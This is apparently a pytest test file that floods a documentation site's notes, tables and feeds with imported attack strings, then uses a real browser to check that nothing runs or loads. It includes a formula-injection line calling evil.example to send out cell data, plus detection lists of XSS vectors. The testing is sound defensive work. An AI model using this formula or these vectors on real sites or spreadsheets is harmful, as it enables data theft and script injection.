"""Nothing that a note holds runs, loads, covers or forges anything: each attack in every place, in a real browser."""

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from functools import partial
from http.server import ThreadingHTTPServer
from itertools import cycle
from pathlib import Path
from threading import Thread
from typing import Any
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser, expect
from selectolax.lexbor import LexborHTMLParser

from attacks import ATTACKS
from browser import Quiet
from conftest import ROOT, TODAY, lay
from explainer import catalog, cells, mkdocs_plugin, record, site
from explainer.cells import Cell
from explainer.kept import Kept
from explainer.notes import Note
from test_planted_faults import SOUND

KINDS = {"glossary": "term", "programs": "program", "actors": "actor", "explainers": "explainer", "sources": "source"}
SHAPES = {
    "glossary": "category: concept\n{figures}",
    "programs": "headline: spans\n{figures}",
    "actors": "category: office\ncountry: NO\n{figures}",
    "explainers": "question: Why?\nanswer: So.\n{figures}",
    "sources": "publisher: Press\nurl: https://example.org/{number}\naccessed: 2026-10-01\ngrade: press\n",
}
FIGURES = """\
figures:
  spans:
    label: Spans
    unit: spans
    observations: [{value: 12, as_of: 1899, sources: [ledger]}, {value: 13, as_of: 1900, sources: [ledger]}]
"""
KEPT = {"id", "kind", "status", "match", "category", "country", "grade", "type", "language", "headline", "name"}
"""Fields with a choice of values or an id, into which nothing else can come."""


def _attacked() -> dict[str, str]:
    """The sound notes, and one more for each attack, whose text it is; their kinds take turns."""
    found = dict(SOUND)
    for number, attack in enumerate(ATTACKS):
        folder = list(SHAPES)[number % len(SHAPES)]
        shape = SHAPES[folder].format(figures=FIGURES, number=number)
        summary = "" if folder == "sources" else "summary: An attack.\n"
        head = f"---\ntitle: Attack {number}\n{summary}{shape}---\n"
        found[f"docs/{folder}/attack-{number}.md"] = f"{head}\n{attack}\n\n[^ledger] Below it.\n"
    found["docs/glossary/called.md"] = f"---\ntitle: Called\nsummary: Cards.\ncategory: concept\n---\n\n{_called()}"
    return found


def _called() -> str:
    """A text that calls up the cards of all attacked notes and of their figures."""
    notes = [(f"attack-{number}", folder) for number, folder in zip(range(len(ATTACKS)), cycle(SHAPES), strict=False)]
    calls = [f"[it](../{folder}/{name}.md) [12 spans](../{folder}/{name}.md#spans).[^{name}]" for name, folder in notes]
    return "\n\n".join(calls)


def _poisoned(value: Any, attack: str, name: str = "") -> Any:
    """A model with the attack in every text of it: as if nothing had been held to any schema."""
    match value:
        case str() if value.startswith("https://"):
            return f"https://example.org/{attack}"
        case str() if name not in KEPT and not re.fullmatch(r"\d{4}(-\d\d){0,2}|ledger|survey", value):
            return attack
        case tuple():
            return tuple(_poisoned(item, attack, name) for item in value)
        case dict():
            return {key: _poisoned(item, attack, name) for key, item in value.items()}
        case _ if hasattr(value, "model_copy"):
            fields = {key: _poisoned(item, attack, key) for key, item in vars(value).items()}
            return value.model_copy(update=fields)
    return value


def _poison(notes: list[Note]) -> Iterator[Note]:
    for note in notes:
        number = note.id.removeprefix("attack-")
        if number.isdigit():
            yield replace(note, model=_poisoned(note.model, ATTACKS[int(number)]))
        elif note.kind == "register":
            yield replace(note, rows=tuple(_rows(note)))
        else:
            yield note


def _rows(register: Note) -> Iterator[Any]:
    for number, attack in enumerate(ATTACKS):
        row = register.rows[0]
        values, written = dict(row.values), dict(row.cells)
        values["number"], written["number"] = number, Cell(str(number), number + 2, 1)
        values["opened"], written["opened"] = "1827", Cell("1827", number + 2, 1)
        values["said"], written["said"] = attack, Cell(attack, number + 2, 1)
        yield row._replace(values=values, cells=written)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> tuple[site.Site, Path]:
    """The site that would be made if the check had found nothing, and its folder."""
    root = lay(tmp_path_factory.mktemp("attacked"), _attacked())
    register, table = root / "docs/registers/crossings.md", root / "docs/registers/crossings.csv"
    column = "    - {name: said, title: Said}\n    - {name: builder"
    register.write_text(register.read_text().replace("    - {name: builder", column))
    table.write_text("number,opened,toll,said,builder,sources\n1,1827,0.5,a,bridge-office,ledger\n")
    (root / "mkdocs.yml").write_bytes((ROOT / "mkdocs.yml").read_bytes())
    known, problems = record.read(root, TODAY)
    assert problems
    poisoned = catalog.build(list(_poison(list(known.notes.values()))), known.uris, TODAY, None, known.pictures)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(site.record, "load", lambda *_: (poisoned, [], None))
        patch.setattr(site.checks, "run", lambda *_: ())
        patch.setattr(mkdocs_plugin.log, "warning", lambda *_: None)  # some of them lead nowhere
        built = site.build(root, TODAY)
        mkdocs_plugin.build(root, built, Kept(root))
    return built, root / "site"


@pytest.fixture(scope="module")
def served(attacked: tuple[site.Site, Path]) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=attacked[1]))
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


LOOK = """() => {
  const article = document.querySelector("article"), found = [];
  const foreign = "img, image, video, audio, link, meta, style, dialog, template, "
    + "input:not(.find *, .tools *), label:not(.tools *)";
  const addresses = ["href", "src", "action", "xlink:href", "poster", "data", "ping"];
  for (const element of document.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      const placed = name === "style" && !element.matches("#card[popover]");  // by the site's own script
      if (name.startsWith("on") || placed || name === "srcdoc" || name === "formaction") found.push(name);
      if (addresses.includes(name) && /^\\s*(javascript|data|vbscript)\\s*:/i.test(value)) found.push(value);
    }
  }
  const running = "script:not([src]):not([type='application/ld+json']), iframe, object, embed, base, frame, portal";
  found.push(...Array.from(document.querySelectorAll(running), element => element.outerHTML));
  for (const element of article.querySelectorAll("*")) {
    if (getComputedStyle(element).position === "fixed") found.push(element.outerHTML);
    if (element.matches(foreign)) found.push(element.outerHTML);
  }
  const below = document.querySelector("main ~ .bottom");
  if (document.querySelectorAll("main, article").length !== 2 || below.closest("main")) found.push("a broken frame");
  for (const name of ["location", "cookie", "defaultView", "getElementById", "querySelector"])
    if (document[name] instanceof Element) found.push(`clobbered ${name}`);
  return found;
}"""
"""What a page holds that no note may bring about; the pictures and buttons of the site itself lie elsewhere."""


NOWHERE = {"server": "http://127.0.0.1:9", "bypass": "127.0.0.1"}
"""A proxy that nobody answers as, for all other hosts: to judge each request would forgo the browser's cache."""


class Watched:
    """A page of the attacked site in a browser, with all that must not happen there."""

    def __init__(self, browser: Browser, served: str, policy: bool) -> None:
        self.ran: list[str] = []
        self.asked: list[str] = []
        self.seen: dict[str, list[str]] = {}
        self.context = browser.new_context(bypass_csp=not policy, proxy=NOWHERE)
        self.context.on("request", lambda request: self._note(request.url, served))
        self.page = self.context.new_page()
        self.page.on("dialog", lambda dialog: (self.ran.append(self.page.url), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.ran.append(f"{self.page.url}: {error}"))

    def _note(self, url: str, served: str) -> None:
        if not url.startswith((served, "data:")):
            self.asked.append(url)

    def look(self) -> None:
        if found := self.page.evaluate(LOOK):
            self.seen[self.page.url] = found

    def hold(self) -> None:
        self.context.close()
        assert (self.ran, self.asked, self.seen) == ([], [], {})


@pytest.mark.parametrize("policy", [True, False], ids=["with-policy", "without-policy"])
def test_nothing_runs_and_nothing_is_loaded(
    browser: Browser, served: str, attacked: tuple[site.Site, Path], policy: bool
) -> None:
    """With the policy, which can only take away, some pages of each kind: what the site's own scripts do then."""
    watched = Watched(browser, served, policy)
    uris = sorted(path.relative_to(attacked[1]).as_posix() for path in attacked[1].rglob("*.html"))
    assert len(uris) > 200
    for uri in uris[::5] if policy else uris:
        watched.page.goto(served + uri)
        watched.look()
    watched.hold()


def test_nothing_runs_when_cards_are_called_up(browser: Browser, served: str) -> None:
    watched, told = Watched(browser, served, policy=False), ""
    watched.page.goto(f"{served}glossary/called/")
    card = watched.page.locator("#card")
    for mark in watched.page.locator("article .prose a").all():
        mark.focus()
        expect(card).to_be_visible()
        watched.look()
        told += card.inner_text() + "\n"
        watched.page.keyboard.press("Escape")
    assert len([attack for attack in ATTACKS if attack in told]) > 100
    watched.hold()


def test_nothing_runs_in_what_the_search_finds(browser: Browser, served: str) -> None:
    watched, found = Watched(browser, served, policy=False), 0
    watched.page.goto(served)
    watched.page.keyboard.press("/")
    for words in ("script", "alert", "img src", "onerror", "svg", "javascript", "style", "iframe", "7*7", "press"):
        watched.page.locator(".search__field").fill(words)
        expect(watched.page.locator(".search__found")).to_have_attribute("aria-busy", "false")
        found += watched.page.locator(".search__found a").count()
        watched.look()
    watched.page.locator(".search__found a").first.click()
    watched.page.wait_for_load_state()
    watched.look()
    assert found > 20
    assert watched.page.url.partition("?")[0] != served
    watched.hold()


def test_nothing_runs_in_a_table_that_is_sorted_and_searched(browser: Browser, served: str) -> None:
    watched = Watched(browser, served, policy=False)
    watched.page.goto(f"{served}registers/crossings/")
    for header in watched.page.locator("th button").all():
        header.click()
        watched.look()
    for words in ("script", "alert(1)", "<img", "javascript:", "' onmouseover"):
        watched.page.get_by_label("Search the rows", exact=True).fill(words)
        watched.look()
    for details in watched.page.locator("details").all():
        details.evaluate("element => element.open = true")
    watched.look()
    watched.hold()


def test_what_takes_the_texts_along_holds_them_as_texts(attacked: tuple[site.Site, Path]) -> None:
    """JSON-LD, feeds and data stay what they are, whatever stands in them."""
    built, folder = attacked
    for path in folder.rglob("*.html"):
        for script in LexborHTMLParser(path.read_text(encoding="utf-8")).css("script[type='application/ld+json']"):
            assert json.loads(script.text())["@context"] == "https://schema.org"
    titles = [element.text for element in _of_feeds(built) if element.tag.endswith("}title")]
    assert {attack for attack in ATTACKS if any(attack in (title or "") for title in titles)}
    allowed = {"feed", "id", "title", "updated", "author", "name", "link", "entry", "summary"}
    assert {element.tag.partition("}")[2] for element in _of_feeds(built)} == allowed
    for uri, data in built.files.items():
        if uri.endswith((".json", ".geojson")):
            json.loads(data)


def _of_feeds(built: site.Site) -> list[ElementTree.Element]:
    return [e for uri, feed in built.files.items() if uri.endswith(".xml") for e in ElementTree.fromstring(feed).iter()]


def test_no_cell_of_a_table_for_download_is_a_formula(attacked: tuple[site.Site, Path]) -> None:
    tables = {uri: data.decode() for uri, data in attacked[0].files.items() if uri.endswith(".csv")}
    found = [cell for table in tables.values() for row in csv.reader(io.StringIO(table)) for cell in row]
    assert [cell for cell in found if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"press")' in found


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("-5", "-5"),
        ("+0.5", "+0.5"),
        (-5, -5),
        ("", ""),
        ("a=b", "a=b"),
        ("=1", "'=1"),
        ("-5+cmd", "'-5+cmd"),
        ("-", "'-"),
        ("\t=1", "'\t=1"),
        ("@a", "'@a"),
    ],
)
def test_a_text_that_a_spreadsheet_would_compute_is_marked_as_one(value: object, shown: object) -> None:
    assert cells.inert(value) == shown
